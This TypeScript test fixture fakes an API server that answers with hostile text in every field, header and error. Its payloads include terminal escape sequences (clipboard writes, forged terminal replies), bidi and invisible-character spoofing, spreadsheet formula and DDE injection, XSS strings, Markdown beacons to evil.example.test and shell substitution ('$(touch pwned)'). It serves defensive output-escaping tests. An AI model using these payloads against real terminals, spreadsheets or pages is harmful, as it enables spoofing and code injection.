// Answers in which every text bites: each field that holds one has sequences a terminal would obey, markup, a formula
// and every code point that hides, moves or reorders; so have errors, headers, addresses and fields nobody knows.
import type { ServerResponse } from 'node:http';
import { detailFields, type RecordFields, summaryFields } from '../../src/api/model.ts';
import { ALWAYS_UNSAFE } from '../fuzz/texts.ts';
import { envelopeOf, type RecordedRequest } from '../support/bytes.ts';
import { dataAt, idIn, idsOf, madeRecord, SAMPLE_ID } from './answers.ts';

const codePoints = (...from: readonly number[]) => from.map((each) => String.fromCodePoint(each)).join('');
const range = (from: number, to: number) => Array.from({ length: to - from + 1 }, (_, nth) => from + nth);

/** What a terminal, a spreadsheet, a page, Markdown or a shell would act upon, each from the first character. */
export const BITES: readonly string[] = [
  // Colours the program never uses: blinking, hidden, underlined twice.
  '\x1b[5;8;21mhidden',
  '\x1b]0;title\x07\x1b]2;title\x1b\\',
  '\x1b]52;c;Y2xpcGJvYXJk\x07',
  '\x1b]8;;https://evil.example.test/\x1b\\link\x1b]8;;\x1b\\',
  // Graphics and files of kitty and iTerm, sixels, and what makes a terminal answer as if it had been typed.
  '\x1b_Ga=T,f=100;AAAA\x1b\\\x1b]1337;File=inline=1:AAAA\x07\x1bPq#0;2;0;0;0~\x1b\\',
  '\x1b[6n\x1b[c\x1b[21t\x1bP+q544e\x1b\\\x1b]11;?\x07',
  '\x1b[2J\x1b[3J\x1b[H\x1b[?1049h\x1bc\x1b(0',
  '\x9b31;5mC1\x9d0;title\x9c\x90q\x9c\x85\x84\x8d',
  '\r\x08\x08\x08\x7f\x0b\x0c\x07\0overwritten',
  '\n12:00 operator 7 (boss@example.test)\n   Pay them all.',
  '\u202Egpj.exe\u202C\u2066\u2067\u2069\u200F\u061C',
  `Z${'\u0301\u0489\u20DD\u0338'.repeat(60)}`,
  codePoints(...range(0xe0061, 0xe007a), 0xe007f, 0xe0100, 0xfe0f, 0xfeff),
  'pay\u200Cpal\u200D\u2060\u00AD\u034F\u115F\u3164\uFFA0\u180E\uFE00',
  '\uD800 \uDFFF\uDBFF high and low',
  codePoints(0xfffe, 0xffff, 0xfdd0, 0x1fffe, 0xe000, 0xf8ff, 0x10fffd, 0x10ffff),
  'line\u2028paragraph\u2029next',
  '\u0338>not greater',
  '=HYPERLINK("https://evil.example.test/?"&A1;"open")',
  '\t=1+1',
  "\"=cmd|' /C calc'!A0",
  '＝1＋1',
  '@SUM(A1:A9)',
  '-2+3',
  '+1',
  '"unclosed',
  '<script>alert(1)</script><img src=x onerror=alert(1)><svg/onload=alert(1)>',
  '"><a href="javascript:alert(1)" onmouseover=\'x\'>https://evil.example.test www.evil.example.test',
  '</title></style><!--',
  '# heading\n\n```\n![x](https://evil.example.test/a.png)\n<b>bold</b>\n- [ ] $x$ | a | b |',
  "$(touch pwned)`touch pwned`';touch pwned;'",
];

/** Surrogates are all alike: of 2048 a few do. */
const NEVER_SHOWN = ALWAYS_UNSAFE.filter(
  (codePoint) => codePoint < 0xd800 || codePoint > 0xdfff || codePoint % 0x100 === 0,
);

/** All that is never shown, and what changes what stands before it. */
export const EVERYTHING = codePoints(...NEVER_SHOWN, ...range(0xfe00, 0xfe0f), ...range(0xe0100, 0xe01ef));

/** The name of a field nobody knows. */
export const EVIL_KEY = '=cmd\x1b[8m\u202E<b>"';

/** Fields that are made of other types than the document shows, where `mistyped`. */
interface Maker {
  readonly text: string;
  readonly mistyped?: boolean;
  /** Identifiers, which stay what they are. */
  readonly ids: Readonly<Record<string, unknown>>;
}

/** A record with the text in every field that can hold one, and in fields of no document. */
function bitingRecord(fields: RecordFields, { text, mistyped, ids }: Maker): Record<string, unknown> {
  const made = (kind: string): unknown => {
    if (kind.startsWith('string') || mistyped) return text;
    if (kind.startsWith('any')) return { [EVIL_KEY]: text, list: [text] };
    if (kind.startsWith('secret')) return 'hidden-anyway';
    if (kind.startsWith('boolean')) return true;
    return kind.startsWith('time') ? 1_714_561_200 : 7;
  };
  // As JSON.parse has it: a field of this name that is no prototype.
  const proto = JSON.parse('{"__proto__":"own"}') as object;
  const more = { [EVIL_KEY]: text, nested: { [EVIL_KEY]: [text] } };
  return { ...madeRecord(fields, made, (record) => ({ ...proto, ...record, ...more })), ...ids };
}

const TEXTS = [...BITES, EVERYTHING];

/** A row for each bite, one with everything, and one in which numbers are texts too. */
function rowsOf(fields: RecordFields, idsOf: (nth: number) => Record<string, unknown>): unknown[] {
  const rows = TEXTS.map((text, nth) => bitingRecord(fields, { text, ids: idsOf(nth) }));
  const mistyped = bitingRecord(fields, {
    text: BITES.join(' '),
    mistyped: true,
    ids: idsOf(TEXTS.length),
  });
  return [...rows, mistyped];
}

/** The conversation with one message for each text; answers about others are errors. */
export const CONVERSATION = SAMPLE_ID;
const FIRST_ROW = 1000;

function detailOf(id: number): unknown {
  const whole = bitingRecord(detailFields, {
    text: id === CONVERSATION ? EVERYTHING : (TEXTS[id % TEXTS.length] ?? ''),
    ids: { conversation_id: id, operator_id: 7 },
  });
  const messageFields = detailFields.messages[0];
  const messages = TEXTS.flatMap((text, nth) => {
    const both = { id: nth + 1, message: text, date_created: 1_714_561_200 + nth };
    const picture = bitingRecord(messageFields, { text, ids: { ...both, id: 1000 + nth, operator_id: 7 } });
    return [{ ...both, type: 'text', [EVIL_KEY]: text }, picture];
  });
  return { ...whole, messages };
}

const at = (nth: number) => ({ id: FIRST_ROW + nth });
const SUMMARIES = rowsOf(summaryFields, at);
/** A group whose lists are never the same twice. */
export const RESTLESS_GROUP = 77;

/** What a write asked for, and its answer does not confirm. */
const UNTOLD: Readonly<Record<string, object>> = {
  '/api/users/update': { name: null },
  '/api/operators/create': { invite_email: null },
};

/** What is answered under a path, for a conversation where it is about one. */
function dataOf(path: string, id: number): unknown {
  const { shape, fields } = dataAt(path);
  if (fields === detailFields) return detailOf(id);
  if (fields === summaryFields) return SUMMARIES;
  if (shape === 'list') return rowsOf(fields, (nth) => ({ id: nth + 7 }));
  return bitingRecord(fields, { text: EVERYTHING, ids: { ...idsOf(path, id), ...UNTOLD[path] } });
}

/** Node lets no C0 character into a header; these it does. */
const EVIL_HEADER = '\x9b8m\x9d0;title\x9c =cmd <b>\x85\xad';

/** What is answered about these conversations in place of a record: a status, and a body. */
const FAILURES: Readonly<Record<number, readonly [status: number, body: unknown]>> = {
  43: [400, { error: EVERYTHING, status: 400, [EVIL_KEY]: EVERYTHING }],
  44: [502, EVERYTHING],
  45: [307, {}],
  46: [401, { error: EVERYTHING, status: EVERYTHING }],
  47: [200, { status: EVERYTHING, [EVIL_KEY]: EVERYTHING }],
  48: [200, { status: 200, data: EVERYTHING }],
  49: [500, { error: { [EVIL_KEY]: EVERYTHING }, status: 500 }],
};

export const FAILING = Object.keys(FAILURES).map(Number);

let looks = 0;

/** The answer to a request, by the conversation or the group that it is about. */
export function biting(request: RecordedRequest, response: ServerResponse): void {
  const { pathname, searchParams } = new URL(request.url, 'http://service.test');
  if (searchParams.get('group_id') === String(RESTLESS_GROUP)) {
    looks += 1;
    const rows = rowsOf(summaryFields, (nth) => at(100 * looks + nth));
    return void response.end(envelopeOf(rows.filter((_, nth) => (nth - looks) % 8 === 0)));
  }
  const id = idIn(request);
  const [status, body] = FAILURES[id] ?? [200, envelopeOf(dataOf(pathname, id))];
  response.setHeader('X-Evil', EVIL_HEADER);
  if (status === 307) response.setHeader('Location', `https://evil.example.test/${EVIL_HEADER}`);
  response.writeHead(status, EVIL_HEADER);
  response.end(typeof body === 'string' ? body : JSON.stringify(body));
}
